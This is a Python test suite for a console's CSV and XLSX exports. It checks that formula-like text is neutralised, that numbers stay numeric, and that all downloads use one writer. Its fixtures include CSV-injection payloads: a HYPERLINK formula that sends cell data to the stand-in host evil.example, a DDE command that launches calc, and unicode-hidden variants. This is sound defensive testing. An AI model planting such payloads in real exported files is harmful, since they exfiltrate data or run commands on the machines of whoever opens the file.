"""Every CSV/XLSX export neutralises formula-like text and keeps numbers numbers.

``kedacore.exports`` is the one writer: the tests read its files back (``csv``, openpyxl) and
check that no cell can run as a formula; the last test holds every download of the console
and every file writer of the code to it.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import tomllib
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import numpy as np
import openpyxl
import pandas as pd

from kedacore.analytics import to_csv, to_xlsx
from kedacore.api.types import Pricing
from kedacore.campaign.plan import preview_campaign
from kedacore.campaign.recipients import read_recipients

ROOT = Path(__file__).resolve().parents[2]
# What an audit found in the console's files, and the other ways a cell becomes a formula.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=1+1",
    "+12065550123",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", " ")


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def assert_inert_csv(data: bytes, hostile: list[str]) -> None:
    """Every hostile value is in the file as ``'`` + itself, and no cell starts a formula."""
    cells = [c for row in read_csv(data) for c in row]
    for value in hostile:
        assert "'" + value in cells, (value, cells)
        assert value not in cells, value
    for cell in cells:  # only a number may start with "-"
        assert not cell.startswith(TRIGGERS[:8]) or re.fullmatch(r"-\d+(\.\d+)?", cell), cell


def assert_inert_xlsx(data: bytes, hostile: list[str]) -> list[openpyxl.cell.Cell]:
    """No formula cell anywhere; each hostile value is a string cell with its exact text (or
    the text behind a ``'``)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    for value in hostile:
        read = value.replace("\r", "\n")  # XML reads a bare carriage return as a line feed
        found = [c for c in cells if c.value in (value, read, "'" + value)]
        assert found, (value, [c.value for c in cells])
        for c in found:
            assert c.data_type == "s", (value, c.data_type)
            assert c.value == "'" + value or c.quotePrefix, value
    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
        if name.startswith("xl/worksheets/"):
            xml = zipfile.ZipFile(io.BytesIO(data)).read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, name
    return cells


def test_hostile_text_is_inert_and_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "text": HOSTILE,
            "amount": [Decimal("-0.5")] + [Decimal("0.048")] * (len(HOSTILE) - 1),
            "count": pd.array([-3] + [7] * (len(HOSTILE) - 1), dtype="Int64"),
            "rate": [-0.25] + [0.5] * (len(HOSTILE) - 1),
            "day": [date(2024, 5, 1)] * len(HOSTILE),
        }
    )
    rows = read_csv(to_csv(frame))
    assert rows[0] == ["text", "amount", "count", "rate", "day"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert rows[1][1:] == ["-0.5", "-3", "-0.25", "2024-05-01"]  # numbers untouched
    assert_inert_csv(to_csv(frame), HOSTILE)

    book = to_xlsx({"data": frame})
    assert_inert_xlsx(book, HOSTILE)
    sheet = openpyxl.load_workbook(io.BytesIO(book))["data"]
    first = [c for c in sheet[2]]
    assert first[0].value == HOSTILE[0] and first[0].quotePrefix
    assert (first[1].value, first[1].data_type) == (-0.5, "n")
    assert (first[2].value, first[2].data_type) == (-3, "n")
    assert (first[3].value, first[3].data_type) == (-0.25, "n")
    assert first[4].is_date


def test_plain_text_is_untouched_and_odd_text_still_writes() -> None:
    from kedacore.exports import cell_text, formula_like, safe_text

    for text in ["Spring sale", "msg_0123456789ab", "2026-01-31T10:00:00Z", "a=b", "x-1", ""]:
        assert not formula_like(text) and safe_text(text) == text
    for text in [*HOSTILE, "\n=1", "\0x", "-", "@"]:
        assert formula_like(text) and safe_text(text) == "'" + text
    assert cell_text(np.int64(-4)) == "-4" and cell_text(np.float64(-1.5)) == "-1.5"
    assert cell_text(Decimal("-1E+1")) == "-10" and cell_text(True) == "true"
    assert cell_text(datetime(2024, 5, 1, 9, tzinfo=UTC)) == "2024-05-01T09:00:00Z"
    # Text a sheet cannot hold (control characters) and error-looking text still write.
    book = to_xlsx(pd.DataFrame({"t": ["a\x00b\x1bc", "#N/A", "#DIV/0!"]}))
    cells = [c for row in openpyxl.load_workbook(io.BytesIO(book))["data"].iter_rows() for c in row]
    assert [(c.value, c.data_type) for c in cells[1:]] == [
        ("a\ufffdb\ufffdc", "s"),
        ("#N/A", "s"),
        ("#DIV/0!", "s"),
    ]


def test_the_problems_csv_quotes_hostile_cells_from_the_recipients_file() -> None:
    pricing = Pricing("USD", {"US": Decimal("0.05")})
    data = (
        b"phone,name\n"
        b"+cmd|' /C calc'!A0,Ann\n"
        b'=HYPERLINK("http://evil.example/?"&A2;"Click"),Bo\n'
        b"@SUM(1+9),Cy\n"
        b"+12065550123,\n"  # a real number, with a missing variable
    )
    preview = preview_campaign(
        read_recipients(data), "Hi {name}", pricing=pricing, default_country="US"
    )
    out = preview.problems_csv()
    assert out.startswith(b"\xef\xbb\xbf")  # still readable by Excel
    rows = read_csv(out)
    phones = [r[1] for r in rows[1:]]
    assert phones == [
        "'+cmd|' /C calc'!A0",
        '\'=HYPERLINK("http://evil.example/?"&A2;"Click")',
        "'@SUM(1+9)",
        "'+12065550123",
    ]
    assert_inert_csv(out, ["+cmd|' /C calc'!A0", "@SUM(1+9)", "+12065550123"])


def _call_source(tree: ast.AST, text: str, attr: str) -> list[tuple[int, str]]:
    found = []
    for node in ast.walk(tree):
        called = node.func if isinstance(node, ast.Call) else None
        if isinstance(called, ast.Attribute) and called.attr == attr:
            assert isinstance(node, ast.Call)
            data = node.args[1] if len(node.args) > 1 else None
            data = data or next((k.value for k in node.keywords if k.arg == "data"), None)
            found.append((node.lineno, ast.get_source_segment(text, data) if data else ""))
    return found


def test_every_download_and_every_file_writer_goes_through_kedacore_exports() -> None:
    """A download's data is built by kedacore.exports (directly, or by status_csv and
    problems_csv, which call it); nothing else writes CSV or XLSX."""
    writers = re.compile(
        r"\.to_csv\(|\.to_excel\(|ExcelWriter|csv\.writer|csv\.DictWriter|"
        r"\bWorkbook\(|xlsxwriter|\.save\("
    )
    exporters = ("to_csv(", "to_xlsx(", "status_csv(", "problems_csv(", "SAMPLE_CSV")
    sources = [ROOT / "app.py", *sorted(ROOT.glob("pages/*.py"))]
    for package in ("console", "kedacore"):
        sources += sorted((ROOT / package).rglob("*.py"))
    downloads = 0
    for path in sources:
        text = path.read_text()
        where = path.relative_to(ROOT).as_posix()
        if where != "kedacore/exports.py":
            for number, line in enumerate(text.splitlines(), start=1):
                code = line.split("#", 1)[0]
                assert not writers.search(code), f"{where}:{number} writes a file: {line.strip()}"
        for number, data in _call_source(ast.parse(text), text, "download_button"):
            downloads += 1
            assert any(e in data for e in exporters), f"{where}:{number} downloads {data!r}"
    assert downloads >= 9  # Spend, Limits, Status, Campaigns (messages, problems, sample)


def test_tables_offer_no_download_of_their_raw_cells() -> None:
    """``st.dataframe``'s own "Download as CSV" writes the raw cells (a campaign named
    ``=HYPERLINK(…)`` would be a formula): the console turns it off; its exports are buttons."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


def test_a_semicolon_or_tab_splitting_spreadsheet_finds_no_formula() -> None:
    """Review finding: Excel in much of Europe splits CSV on ';' — "Spring;=1+1" became a
    cell "=1+1". Quoting keeps the cell whole for any of , ; and tab as the separator."""
    frame = pd.DataFrame(
        {"name": ["Spring;=1+1", "x\t=2+2", "a;@SUM(A1)", "plain"], "n": [1, 2, 3, 4]}
    )
    text = to_csv(frame).decode("utf-8-sig")
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@"), (delimiter, cell)


def test_formula_signs_behind_unicode_blanks_or_full_width_are_neutralised() -> None:
    hostile = ["\u00a0=1+1", "\u3000+cmd", "\ufeff=HYPERLINK(1)", "\uff1d1+1", " \u2003@x"]
    frame = pd.DataFrame({"v": hostile})
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig"))))[1:]
    assert [r[0] for r in rows] == ["'" + h for h in hostile]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame)))
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
    assert all(c.data_type == "s" for c in cells)


def test_times_as_utc_date_time_cells_with_widths_and_wrapping_stay_formula_safe() -> None:
    """Asked for (the audit log's export): times are date-time cells of their UTC time (naive:
    a worksheet cell has no zone), columns as wide as asked, long text wrapped; hostile text
    is as inert as ever. Without the option times stay ISO text with Z."""
    shanghai = datetime(2026, 3, 10, 20, 5, 9, tzinfo=ZoneInfo("Asia/Shanghai"))
    frame = pd.DataFrame(
        {
            "at (UTC)": [shanghai, datetime(2026, 3, 9, 23, 59, 59, 250000, tzinfo=UTC), None],
            "detail": HOSTILE[:3],
            "n": [1, 2, 3],
        }
    )
    book = to_xlsx(
        {"log": frame}, datetimes=True, widths={"at (UTC)": 20, "detail": 60}, wrap={"detail"}
    )
    assert_inert_xlsx(book, HOSTILE[:3])
    sheet = openpyxl.load_workbook(io.BytesIO(book))["log"]
    at = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in at[:2]] == [
        datetime(2026, 3, 10, 12, 5, 9),  # 20:05:09 in Shanghai is 12:05:09 UTC
        datetime(2026, 3, 9, 23, 59, 59, 250000),
    ]
    assert at[0].is_date and at[0].number_format == "yyyy-mm-dd hh:mm:ss"
    assert at[2].value is None
    assert sheet.column_dimensions["A"].width == 20 and sheet.column_dimensions["B"].width == 60
    assert sheet.column_dimensions["C"].width == 10  # from its name, as before
    assert all(row[1].alignment.wrap_text for row in sheet.iter_rows(min_row=2))
    assert not sheet["C2"].alignment.wrap_text
    # By default, as every other export: the ISO text of the UTC time.
    plain_sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame)))["data"]
    assert plain_sheet["A2"].value == "2026-03-10T12:05:09Z" and plain_sheet["A2"].data_type == "s"
